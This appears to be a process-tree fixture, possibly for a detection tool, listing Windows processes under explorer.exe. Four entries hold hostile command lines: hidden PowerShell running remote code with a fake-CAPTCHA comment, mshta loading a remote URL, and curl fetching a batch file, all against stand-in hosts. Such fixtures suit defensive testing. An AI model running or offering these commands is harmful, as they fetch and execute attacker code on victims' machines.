os windows
101 1 ana - C:\Windows\explorer.exe | C:\Windows\explorer.exe
+ 102 101 ana - C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe | "C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -w h -c "iex(irm example.test/a)" # I am not a robot
+ 103 101 ana - C:\Windows\System32\mshta.exe | "C:\Windows\system32\mshta.exe" https://example.test/check.mp4
+ 104 101 ana - C:\Windows\System32\cmd.exe | cmd /c start /min curl -s http://10.0.0.5/a -o %temp%\a.bat
+ 105 101 ana - C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe | powershell -windowstyle hidden -file a.ps1
